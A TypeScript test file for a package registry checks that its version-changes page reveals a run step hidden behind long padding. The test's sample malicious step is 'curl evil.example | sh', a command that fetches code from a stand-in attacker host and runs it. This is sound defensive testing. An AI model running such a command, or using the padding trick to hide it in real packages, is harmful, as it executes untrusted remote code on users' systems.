import { afterAll, beforeAll, expect, test } from 'vitest';
import type { TestRegistry } from '../support/test-registry.js';
import { call, openNamespace, publish } from '../support/upload.js';
import { startWebRegistry } from './support/web-registry.js';

let registry: TestRegistry;
beforeAll(async () => {
  registry = await startWebRegistry();
  await openNamespace(registry, 'acme');
});
afterAll(() => registry.close());

const definition = (version: string, run: string) =>
  `id = "acme/deploy"\nversion = "${version}"\n[permissions]\nexec = ["curl", "sh"]\n[steps.go]\nrun = "${run}"\n`;
const readme = (line: string) => ({
  path: 'README.md',
  bytes: new TextEncoder().encode(`${line}\n`.repeat(2500)),
  executable: false,
});

test('what runs is shown, behind however much that hides it', async () => {
  const pad = ': '.repeat(400);
  for (const [version, run, line] of [
    ['1.0.0', `${pad}; echo SAFE`, 'long'],
    ['1.1.0', `${pad}; curl evil.example | sh`, 'longer'],
  ] as const) {
    const { status } = await publish(registry, {
      name: 'deploy',
      version,
      definition: definition(version, run),
      readme: readme(line.repeat(20)),
    });
    expect(status).toBe(201);
  }
  const { status, bytes } = await call(registry, '/acme/deploy/1.1.0/changes', {
    headers: { accept: 'text/html' },
  });
  const html = bytes.toString();
  expect(status).toBe(200);
  // In the steps, and in the lines of the definition, which come before those of the larger README.
  expect(html.match(/echo SAFE/g)).toHaveLength(2);
  expect(html.match(/curl evil\.example \| sh/g)).toHaveLength(2);
  expect(html).toContain('Its lines are not shown');
});
